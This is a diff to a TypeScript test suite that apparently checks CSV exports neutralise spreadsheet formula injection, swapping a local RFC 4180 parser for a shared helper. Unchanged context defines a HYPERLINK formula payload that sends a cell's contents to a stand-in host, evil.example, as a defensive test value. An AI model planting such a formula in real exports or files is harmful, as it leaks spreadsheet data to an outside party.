@@ -3,6 +3,7 @@ import { updateNow } from '../../functions/core/store/table';
 import { useTestApi } from '../support/local-api';
 import { dataOrg, type DataOrg } from '../support/data-api';
 import { eventually, expectStatus } from '../support/scenario';
+import { parseCsvLine } from '../support/csv';
 
 /**
  * No spreadsheet formula in a CSV cell, through HTTP: `sourceType` is one of Clarity's source
@@ -16,29 +17,6 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 /** The cell as written: a leading quote mark, then RFC 4180 quoting (the formula holds commas and quotes). */
 const ESCAPED_FORMULA = `"'${FORMULA.replace(/"/g, '""')}"`;
 const MINUTE = 60_000;
-
-/** Cells of a CSV line, reading RFC 4180 quoting. */
-function cellsOf(line: string): string[] {
-  const cells: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let index = 0; index < line.length; index++) {
-    const char = line[index]!;
-    if (quoted) {
-      if (char === '"' && line[index + 1] === '"') {
-        cell += '"';
-        index++;
-      } else if (char === '"') quoted = false;
-      else cell += char;
-    } else if (char === '"') quoted = true;
-    else if (char === ',') {
-      cells.push(cell);
-      cell = '';
-    } else cell += char;
-  }
-  cells.push(cell);
-  return cells;
-}
 
 describe('CSV cells', () => {
   let org: DataOrg;
@@ -121,7 +99,7 @@ describe('CSV cells', () => {
     expect(legacyLine).toContain(`,${ESCAPED_FORMULA},minute,`);
     expect(legacyLine).toContain(`,'@SUM(A1),-5.45,`);
     for (const line of lines) {
-      const cells = cellsOf(line);
+      const cells = parseCsvLine(line);
       expect(cells).toHaveLength(11);
       expect([cells[8], cells[10]]).toEqual(['-5.45', '-5.45']);
       // No cell a spreadsheet would run: every one that begins a formula is a number.
@@ -158,8 +136,8 @@ describe('CSV cells', () => {
     expect(legacyLine).toContain(`,${ESCAPED_FORMULA},minute,`);
     expect(legacyLine).toContain(`,'@SUM(A1),-5.45,`);
     for (const line of lines) {
-      expect(cellsOf(line)[8]).toBe('-5.45');
-      for (const cell of cellsOf(line)) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
+      expect(parseCsvLine(line)[8]).toBe('-5.45');
+      for (const cell of parseCsvLine(line)) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
     }
     await api.runtime.reports.idle();
   });
